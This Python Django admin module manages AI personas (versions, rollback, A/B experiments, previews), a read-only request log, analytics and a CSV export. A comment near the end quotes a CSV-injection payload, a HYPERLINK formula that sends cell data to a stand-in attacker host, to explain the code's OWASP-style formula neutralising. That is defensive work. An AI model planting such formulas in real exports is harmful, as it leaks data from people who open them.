"""Persona editing (versions, roll-back, live preview), the read-only request log with its CSV
export, and the gateway analytics page."""

from __future__ import annotations

import csv
import json
from collections.abc import AsyncIterator, Callable, Iterable, Iterator, Sequence
from typing import Any
from urllib.parse import urlencode

from asgiref.sync import sync_to_async
from django.conf import settings
from django.contrib import admin, messages
from django.contrib.admin.options import IncorrectLookupParameters
from django.contrib.admin.utils import NestedObjects, flatten_fieldsets
from django.core.exceptions import PermissionDenied, ValidationError
from django.core.handlers.asgi import ASGIRequest
from django.db import router
from django.db.models import Max, QuerySet
from django.forms import ModelForm
from django.http import (
    Http404,
    HttpRequest,
    HttpResponse,
    HttpResponseBase,
    HttpResponseRedirect,
    StreamingHttpResponse,
)
from django.shortcuts import get_object_or_404
from django.template.response import TemplateResponse
from django.urls import URLPattern, path, reverse
from django.utils import timezone
from django.utils.html import format_html
from django.views.decorators.cache import never_cache
from django.views.decorators.csrf import csrf_protect
from django.views.decorators.http import require_POST
from django_stubs_ext import StrPromise

from .. import services
from ..backends import catalog
from ..backends.base import SAMPLING_FIELDS
from ..encoders import error_response
from ..errors import ErrorCode, QuoteError
from ..models import Experiment, Generation, Persona, PersonaVersion
from ..streams import clean_topic
from . import analytics, charts
from .forms import PersonaForm, StatsRangeForm
from .preview import InvalidPersona, preview_persona, stream_preview


@admin.register(Persona)
class PersonaAdmin(admin.ModelAdmin[Persona]):
    form = PersonaForm
    list_display = ("name", "slug", "model_and_state", "current_version", "is_active", "display_order")
    list_display_links = ("name",)
    list_editable = ("is_active", "display_order")
    list_filter = ("is_active", "model", "backend")
    search_fields = ("name", "slug", "system_prompt")
    prepopulated_fields = {"slug": ("name",)}
    fieldsets = (
        ("Identity", {"fields": ("name", "slug", "description")}),
        ("Prompts", {"fields": ("system_prompt", "user_prompt_template", "default_topic", "voice_examples")}),
        ("Model", {"fields": ("backend", "model", "fallback_models", "lora", "max_tokens")}),
        (
            "Sampling",
            {
                "fields": tuple(SAMPLING_FIELDS),
                "description": "Each value is checked against the chosen model's documented range.",
            },
        ),
        ("Publishing", {"fields": ("is_active", "display_order", "cache_ttl", "daily_spend_limit_usd")}),
    )

    def get_queryset(self, request: HttpRequest) -> QuerySet[Persona]:
        return super().get_queryset(request).annotate(_latest_version=Max("versions__number"))

    @admin.display(description="Model", ordering="model")
    def model_and_state(self, obj: Persona) -> str:
        """The model, marked when it (or a fallback) cannot serve: retired, or unknown to the catalog."""
        fallbacks = obj.fallback_models if isinstance(obj.fallback_models, list) else []
        marks = [f" ⚠ {problem}"] if (problem := catalog.model_problem(obj.model)) else []
        marks += [f" ⚠ its fallback {m} {said}" for m in fallbacks if (said := catalog.model_problem(m))]
        return obj.model + "".join(marks)

    @admin.display(description="Version")
    def current_version(self, obj: Persona) -> str:
        count = getattr(obj, "_latest_version", None)
        return f"v{count}" if count else "-"

    def save_model(self, request: HttpRequest, obj: Persona, form: ModelForm[Persona], change: bool) -> None:
        if change and "_savedraft" in request.POST:
            draft = services.persona_save_draft(persona=obj, created_by=request.user)
            request._draft = draft  # type: ignore[attr-defined]
            return
        services.persona_save(persona=obj, created_by=request.user)

    def log_change(self, request: HttpRequest, obj: Persona, message: Any) -> Any:
        draft = getattr(request, "_draft", None)
        if draft is not None:  # the form's changes went to a draft, not to the persona
            message = f"Saved as draft v{draft.number} (the live version is unchanged)."
        return super().log_change(request, obj, message)

    def response_change(self, request: HttpRequest, obj: Persona) -> HttpResponse:
        draft = getattr(request, "_draft", None)
        if draft is None:
            return super().response_change(request, obj)
        self.message_user(
            request,
            f"Saved “{obj}”'s values as draft v{draft.number}; readers still get the live version. "
            "Try the draft on a share of them below.",
            messages.SUCCESS,
        )
        return HttpResponseRedirect(
            reverse("admin:quotes_persona_versions", args=[obj.pk]) + f"#v{draft.number}"
        )

    # A persona the log points at is deactivated instead of deleted.

    def delete_view(
        self, request: HttpRequest, object_id: str, extra_context: dict[str, Any] | None = None
    ) -> HttpResponse:
        obj = self.get_object(request, object_id)
        count = obj.generations.count() if obj is not None else 0
        return super().delete_view(request, object_id, {**(extra_context or {}), "generation_count": count})

    def get_deleted_objects(
        self, objs: Sequence[Any] | QuerySet[Any], request: HttpRequest
    ) -> tuple[list[Any], dict[Any, Any], set[Any], list[Any]]:
        deleted, counts, perms_needed, protected = super().get_deleted_objects(objs, request)
        # The log's PROTECT is handled by deactivating; anything else that protects one still blocks.
        collector = NestedObjects(using=router.db_for_write(Persona))
        collector.collect(list(objs))
        if all(isinstance(obj, Generation) for obj in collector.protected):
            protected = []
        return deleted, counts, perms_needed, protected

    def log_deletions(self, request: HttpRequest, queryset: Iterable[Persona]) -> None:  # type: ignore[override]
        kept = [obj for obj in queryset if services.persona_has_generations(obj)]
        for obj in kept:
            self.log_change(request, obj, "Deactivated instead of deleted: the request log refers to it.")
        super().log_deletions(request, [obj for obj in queryset if obj not in kept])  # type: ignore[arg-type]

    def delete_model(self, request: HttpRequest, obj: Persona) -> None:
        if services.persona_delete(persona=obj):
            self._say_deactivated(request, [obj])
            request._persona_deactivated = True  # type: ignore[attr-defined]

    def delete_queryset(self, request: HttpRequest, queryset: QuerySet[Persona]) -> None:
        deactivated = [persona for persona in queryset if services.persona_delete(persona=persona)]
        self._say_deactivated(request, deactivated)
        request._personas_deleted = len(queryset) - len(deactivated)  # type: ignore[attr-defined]

    def message_user(
        self,
        request: HttpRequest,
        message: str | StrPromise,
        level: int | str = messages.INFO,
        extra_tags: str = "",
        fail_silently: bool = False,
    ) -> None:
        # The bulk delete action would count the deactivated personas as deleted.
        deleted = getattr(request, "_personas_deleted", None)
        if deleted is not None and str(message).startswith("Successfully deleted"):
            if not deleted:
                return
            message = f"Successfully deleted {deleted} persona{'s' if deleted != 1 else ''}."
        super().message_user(request, message, level, extra_tags, fail_silently)

    def _say_deactivated(self, request: HttpRequest, personas: list[Persona]) -> None:
        if personas:
            names = ", ".join(f"“{p}”" for p in personas)
            self.message_user(
                request,
                f"Deactivated {names} instead of deleting: the request log refers to "
                f"{'it' if len(personas) == 1 else 'them'}. A deactivated persona is hidden from the site.",
                messages.WARNING,
            )

    def response_delete(self, request: HttpRequest, obj_display: str, obj_id: int) -> HttpResponse:
        if getattr(request, "_persona_deactivated", False):
            return HttpResponseRedirect(reverse("admin:quotes_persona_changelist"))
        return super().response_delete(request, obj_display, obj_id)

    def get_urls(self) -> list[URLPattern]:
        wrap = self.admin_site.admin_view
        return [
            path(
                "<int:object_id>/history-versions/", wrap(self.versions_view), name="quotes_persona_versions"
            ),
            path(
                "<int:object_id>/history-versions/<int:number>/rollback/",
                wrap(require_POST(self.rollback_view)),
                name="quotes_persona_rollback",
            ),
            path(
                "<int:object_id>/experiments/start/",
                wrap(require_POST(self.experiment_start_view)),
                name="quotes_persona_experiment_start",
            ),
            path(
                "<int:object_id>/experiments/<int:experiment_id>/finish/",
                wrap(require_POST(self.experiment_finish_view)),
                name="quotes_persona_experiment_finish",
            ),
            # Not admin_view, which is sync: the view checks staff status itself.
            path(
                "<int:object_id>/preview/",
                csrf_protect(never_cache(self.preview_view)),
                name="quotes_persona_preview",
            ),
            *super().get_urls(),
        ]

    def _persona_or_404(self, request: HttpRequest, object_id: int) -> Persona:
        persona = self.get_object(request, str(object_id))
        if persona is None:
            raise Http404("No such persona.")
        return persona

    def _persona_to_change(self, request: HttpRequest, object_id: int) -> Persona:
        persona = self._persona_or_404(request, object_id)
        if not self.has_change_permission(request, persona):
            raise PermissionDenied
        return persona

    def versions_view(self, request: HttpRequest, object_id: int) -> HttpResponse:
        persona = self._persona_or_404(request, object_id)
        if not self.has_view_or_change_permission(request, persona):
            raise PermissionDenied
        context = {
            **self.admin_site.each_context(request),
            "opts": self.opts,
            "original": persona,
            "title": f"Versions of {persona}",
            "entries": analytics.version_history(persona),
            "can_roll_back": self.has_change_permission(request, persona),
            "reports": [analytics.experiment_report(e) for e in persona.experiments.select_related("draft")],
            "running": persona.experiments.filter(ended_at__isnull=True).exists(),
        }
        return TemplateResponse(request, "admin/quotes/persona/versions.html", context)

    def experiment_start_view(self, request: HttpRequest, object_id: int) -> HttpResponse:
        """POST `number` (a draft version's) and `share` (1-99): the draft goes to that share of readers."""
        persona = self._persona_to_change(request, object_id)
        number, share = (request.POST.get(name, "").strip() for name in ("number", "share"))
        if not number.isdigit():
            raise Http404("No such version.")
        draft = get_object_or_404(PersonaVersion, persona=persona, number=int(number))
        try:
            if not share.isdigit():
                raise ValidationError("say what share of readers should get the draft, from 1 to 99 %.")
            experiment = services.experiment_start(
                persona=persona, draft=draft, share=int(share), user=request.user
            )
        except ValidationError as exc:
            self.message_user(
                request, f"Cannot start the experiment: {' '.join(exc.messages)}", messages.ERROR
            )
        else:
            self.log_change(
                request, persona, f"Started an experiment: v{draft.number} to {share}% of readers."
            )
            self.message_user(
                request,
                f"v{draft.number} now goes to {experiment.share}% of “{persona}”'s readers.",
                messages.SUCCESS,
            )
        return HttpResponseRedirect(reverse("admin:quotes_persona_versions", args=[persona.pk]))

    def experiment_finish_view(
        self, request: HttpRequest, object_id: int, experiment_id: int
    ) -> HttpResponse:
        """POST `action`: `promote` (the draft becomes the live version) or `end`."""
        persona = self._persona_to_change(request, object_id)
        experiment = get_object_or_404(Experiment, persona=persona, pk=experiment_id)
        promote = request.POST.get("action") == "promote"
        try:
            new = services.experiment_finish(experiment=experiment, promote=promote, user=request.user)
        except ValidationError as exc:
            self.message_user(
                request, f"Cannot finish the experiment: {' '.join(exc.messages)}", messages.ERROR
            )
        else:
            draft = experiment.draft.number
            if promote:
                said = f"Promoted draft v{draft}" + (f" (saved as v{new.number})" if new else "")
                told = f"{said}: every reader gets it now."
            else:
                said = "Ended the experiment"
                told = f"{said}; every reader gets the live version, v{draft} stays a draft."
            self.log_change(request, persona, said + ".")
            self.message_user(request, told, messages.SUCCESS)
        return HttpResponseRedirect(reverse("admin:quotes_persona_versions", args=[persona.pk]))

    def rollback_view(self, request: HttpRequest, object_id: int, number: int) -> HttpResponse:
        persona = self._persona_to_change(request, object_id)
        version = get_object_or_404(PersonaVersion, persona=persona, number=number)
        try:
            new = services.persona_rollback(persona=persona, version=version, user=request.user)
        except ValidationError as exc:
            self.message_user(
                request, f"Cannot roll back to v{number}: {' '.join(exc.messages)}", messages.ERROR
            )
        else:
            if new is None:
                self.message_user(request, f"“{persona}” already has v{number}'s settings.", messages.INFO)
            else:
                self.log_change(request, persona, f"Rolled back to v{number} (saved as v{new.number}).")
                self.message_user(
                    request,
                    f"Rolled “{persona}” back to v{number}; saved as v{new.number}.",
                    messages.SUCCESS,
                )
        return HttpResponseRedirect(reverse("admin:quotes_persona_versions", args=[persona.pk]))

    async def preview_view(self, request: HttpRequest, object_id: int) -> HttpResponseBase:
        """Stream a quote from the change form's unsaved values (POST, staff, change permission)."""
        if request.method != "POST":
            return error_response(
                QuoteError(ErrorCode.METHOD_NOT_ALLOWED, "POST the form's fields.", 405), {"Allow": "POST"}
            )
        user = await request.auser()
        if not (user.is_active and user.is_staff):
            return error_response(
                QuoteError(ErrorCode.FORBIDDEN, "Log in to the admin as staff to preview.", 403)
            )

        def unsaved_persona() -> tuple[Persona, str]:
            saved = Persona.objects.filter(pk=object_id).first()
            if saved is None:
                raise QuoteError(ErrorCode.UNKNOWN_PERSONA, "There is no such persona; save it first.", 404)
            if not self.has_change_permission(request, saved):
                raise QuoteError(ErrorCode.FORBIDDEN, "You may not change this persona.", 403)
            persona, topic = preview_persona(request, saved)
            return persona, clean_topic(topic, default=persona.default_topic)

        try:
            persona, topic = await sync_to_async(unsaved_persona)()
        except InvalidPersona as exc:
            return exc.response()
        except QuoteError as exc:
            return error_response(exc)
        return await stream_preview(request, persona, topic, user.pk)


def _pretty_json(value: object) -> str:
    if not value:
        return "-"
    return format_html(
        '<pre class="generation-json">{}</pre>', json.dumps(value, indent=2, ensure_ascii=False)
    )


@admin.register(Generation)
class GenerationAdmin(admin.ModelAdmin[Generation]):
    """The request log: read-only; only superusers may delete rows."""

    class Media:
        css = {"all": ["admin/css/generation-log.css"]}

    list_display = (
        "created_at",
        "persona",
        "state",
        "cache_status",
        "model",
        "backend",
        "ttft",
        "tokens",
        "cost_usd",
        "feedback",
        "is_preview",
    )
    list_filter = ("persona", "status", "cache_status", "model", "backend", "arm", "created_at", "is_preview")
    list_select_related = ("persona",)
    search_fields = ("text", "topic")
    date_hierarchy = "created_at"
    fieldsets = (
        (
            None,
            {
                "fields": (
                    "created_at",
                    "persona",
                    "persona_version",
                    ("experiment", "arm"),
                    "is_preview",
                    "topic",
                    "text",
                )
            },
        ),
        (
            "Outcome",
            {
                "fields": (
                    "status",
                    "cache_status",
                    ("error_code", "error_message"),
                    ("backend", "model", "fallback_step"),
                    ("prompt_tokens", "completion_tokens", "cost_usd", "cost_estimated"),
                    ("ttft_ms", "duration_ms"),
                    ("feedback", "shared_at"),
                    "client_hash",
                )
            },
        ),
        ("Request sent", {"fields": ("request_json",)}),
        ("Upstream headers", {"fields": ("upstream_headers_json",)}),
    )
    readonly_fields = flatten_fieldsets(fieldsets)

    @admin.display(description="Status", ordering="status")
    def state(self, obj: Generation) -> str:
        """A `running` row older than the total deadline: its process died mid-stream."""
        if obj.error_code == ErrorCode.LOST or (
            obj.status == Generation.Status.RUNNING and obj.created_at < services.lost_before()
        ):
            return analytics.LOST
        return obj.status

    @admin.display(description="TTFT", ordering="ttft_ms")
    def ttft(self, obj: Generation) -> str:
        return f"{obj.ttft_ms:.0f} ms" if obj.ttft_ms is not None else "-"

    @admin.display(description="Tokens (prompt/completion)")
    def tokens(self, obj: Generation) -> str:
        return "/".join("-" if n is None else str(n) for n in (obj.prompt_tokens, obj.completion_tokens))

    @admin.display(description="Request sent")
    def request_json(self, obj: Generation) -> str:
        return _pretty_json(obj.request)

    @admin.display(description="Upstream headers")
    def upstream_headers_json(self, obj: Generation) -> str:
        return _pretty_json(obj.upstream_headers)

    def has_add_permission(self, request: HttpRequest) -> bool:
        return False

    def has_change_permission(self, request: HttpRequest, obj: Generation | None = None) -> bool:
        return False

    def get_urls(self) -> list[URLPattern]:
        wrap = self.admin_site.admin_view
        return [
            path("analytics/", wrap(self.analytics_view), name="quotes_generation_analytics"),
            path("export.csv", wrap(self.export_csv_view), name="quotes_generation_export"),
            *super().get_urls(),
        ]

    def analytics_view(self, request: HttpRequest) -> HttpResponse:
        if not self.has_view_permission(request):
            raise PermissionDenied
        form = StatsRangeForm(request.GET)
        stats, charts_by_name, log_query = None, None, ""
        if form.is_valid():
            data = form.cleaned_data
            stats = analytics.gateway_stats(
                since=data["since"],
                until=data["until"],
                bucket=data["bucket"] or None,
                include_previews=data["previews"],
            )
            charts_by_name = charts.stats_charts(stats)
            log_filter = {
                "created_at__gte": stats.since.isoformat(),
                "created_at__lt": stats.until.isoformat(),
            }
            if not stats.include_previews:
                log_filter["is_preview__exact"] = "0"
            log_query = "?" + urlencode(log_filter)
        context = {
            **self.admin_site.each_context(request),
            "opts": self.opts,
            "title": "Gateway analytics",
            "form": form,
            "stats": stats,
            "charts": charts_by_name,
            "tiles": charts.kpi_tiles(stats) if stats else [],
            "persona_rows": charts.breakdown_display(stats.by_persona, stats.requests) if stats else [],
            "model_rows": charts.breakdown_display(stats.by_model, stats.requests) if stats else [],
            "log_url": reverse("admin:quotes_generation_changelist") + log_query,
            "export_url": reverse("admin:quotes_generation_export") + log_query,
            "experiment_reports": [analytics.experiment_report(e) for e in analytics.experiments_in(stats)],
            "spend_today": analytics.spend_today(),
            "spend_ceiling": settings.QUOTES_DAILY_SPEND_LIMIT_USD,
            "presets": [(key, label) for key, label in form.fields["range"].choices if key != "custom"],  # type: ignore[attr-defined]
        }
        return TemplateResponse(request, "admin/quotes/analytics.html", context)

    def export_csv_view(self, request: HttpRequest) -> HttpResponseBase:
        """The changelist's rows as they are filtered now (every page), streamed as CSV."""
        if not self.has_view_permission(request):
            raise PermissionDenied
        try:
            changelist = self.get_changelist_instance(request)
        except IncorrectLookupParameters:
            return HttpResponseRedirect(reverse("admin:quotes_generation_changelist") + "?e=1")
        rows = analytics.with_state(
            changelist.get_queryset(request).select_related("persona", "persona_version")
        )
        filename = f"generations-{timezone.now():%Y%m%d-%H%M%S}.csv"
        # Under ASGI a sync iterator would be read whole before sending.
        content = _csv_async(rows) if isinstance(request, ASGIRequest) else _csv_sync(rows)
        return StreamingHttpResponse(
            content,
            content_type="text/csv; charset=utf-8",
            headers={"Content-Disposition": f'attachment; filename="{filename}"'},
        )

    def has_delete_permission(self, request: HttpRequest, obj: Generation | None = None) -> bool:
        return bool(request.user.is_active and request.user.is_superuser)


CSV_COLUMNS = (
    "created_at",
    "persona",
    "version",
    "backend",
    "model",
    "fallback_step",
    "status",
    "cache_status",
    "error_code",
    "prompt_tokens",
    "completion_tokens",
    "cost_usd",
    "ttft_ms",
    "duration_ms",
    "is_preview",
    "feedback",
    "topic",
    "text",
)


class _Echo:
    """write() hands the line back, for csv.writer in a generator."""

    def write(self, value: str) -> str:
        return value


#: What makes a spreadsheet read a cell as a formula (OWASP's CSV injection list, `|`, `;`, and
#: the fullwidth forms some read as their ASCII twins): a visitor's topic such as
#: `=HYPERLINK("https://evil.example/?"&C2,"x")` must stay text when an admin opens the export.
_FORMULA_START = frozenset("=+-@|;\uff1d\uff0b\uff0d\uff20\uff5c\uff1b")
#: Blanks a spreadsheet skips before it looks for a formula; tab, CR and LF start one themselves.
_BLANK_START = ("\t", "\r", "\n")


def _neutralised(value: object) -> object:
    """Text a spreadsheet would run as a formula, prefixed with a single quote (OWASP)."""
    if isinstance(value, str) and (value.startswith(_BLANK_START) or value.lstrip()[:1] in _FORMULA_START):
        return "'" + value
    return value


#: The columns that are not a field's value as it is.
_CSV_CELLS: dict[str, Callable[[Generation], object]] = {
    "created_at": lambda row: row.created_at.isoformat(),
    "persona": lambda row: row.persona.slug,
    "version": lambda row: row.persona_version.number if row.persona_version else "",
    "status": lambda row: getattr(row, "state", row.status),  # a lost row reads `lost`
    "is_preview": lambda row: "true" if row.is_preview else "false",
}


def _csv_row(row: Generation) -> list[object]:
    cells = (_CSV_CELLS[name](row) if name in _CSV_CELLS else getattr(row, name) for name in CSV_COLUMNS)
    return [_neutralised("" if cell is None else cell) for cell in cells]


def _csv_sync(rows: QuerySet[Generation]) -> Iterator[str]:
    writer = csv.writer(_Echo())
    yield writer.writerow(CSV_COLUMNS)
    for row in rows.iterator(chunk_size=2000):
        yield writer.writerow(_csv_row(row))


async def _csv_async(rows: QuerySet[Generation]) -> AsyncIterator[str]:
    writer = csv.writer(_Echo())
    yield writer.writerow(CSV_COLUMNS)
    async for row in rows.aiterator(chunk_size=2000):
        yield writer.writerow(_csv_row(row))
